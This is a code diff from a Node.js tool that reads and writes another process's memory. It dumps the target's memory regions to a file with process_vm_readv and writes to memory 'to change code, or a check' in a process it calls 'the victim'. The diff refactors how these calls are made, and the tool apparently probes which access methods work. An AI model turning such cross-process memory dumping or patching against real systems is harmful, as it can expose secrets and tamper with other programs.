@@ -60,9 +60,8 @@ const ways = {
     const piece = Buffer.alloc(2 ** 20)
     const file = openSync(out, "w")
     const said = new Set()
-    let map
-    const told = attempt(() => void (map = regions(pid)))
-    for (const [from, to] of map ?? anywhere()) {
+    const map = attempt(() => regions(pid))
+    for (const [from, to] of Array.isArray(map) ? map : anywhere()) {
       for (let at = from; at < to; at += BigInt(piece.length)) {
         const length = Number(to - at < BigInt(piece.length) ? to - at : BigInt(piece.length))
         const here = iovec(koffi.address(piece), length)
@@ -73,16 +72,14 @@ const ways = {
       }
     }
     closeSync(file)
-    return [`maps: ${told}`, ...[...said].map((one) => `process_vm_readv: ${one}`)]
+    return [`maps: ${Array.isArray(map) ? "done" : map}`, ...[...said].map((one) => `process_vm_readv: ${one}`)]
   },
   /** Writes to it: to change code, or a check. */
   writev(pid) {
     const nothing = Buffer.alloc(8)
     const here = iovec(koffi.address(nothing), 8)
-    let target
-    attempt(() => void (target = regions(pid)))
-    const own = (target ?? anywhere())[0][0]
-    const there = iovec(own, 8)
+    const map = attempt(() => regions(pid))
+    const there = iovec((Array.isArray(map) ? map : anywhere())[0][0], 8)
     // What is there already, so that the victim lives on.
     call("readv", Number(pid), koffi.address(here), 1, koffi.address(there), 1, 0)
     return [
